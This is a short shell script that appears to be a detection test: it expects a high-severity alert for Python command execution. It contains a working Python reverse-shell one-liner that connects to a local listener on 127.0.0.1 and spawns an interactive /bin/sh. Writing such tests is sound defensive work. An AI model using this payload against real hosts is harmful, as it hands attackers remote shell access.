# expects: high T1059.006
. "$STAGE/act.sh"
STAGE_TALK=$'id\nexit\n' listen
timeout 5 python3 -c "import socket,os,subprocess;s=socket.socket(socket.AF_INET);s.connect(('127.0.0.1',$port));[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
wait $listener
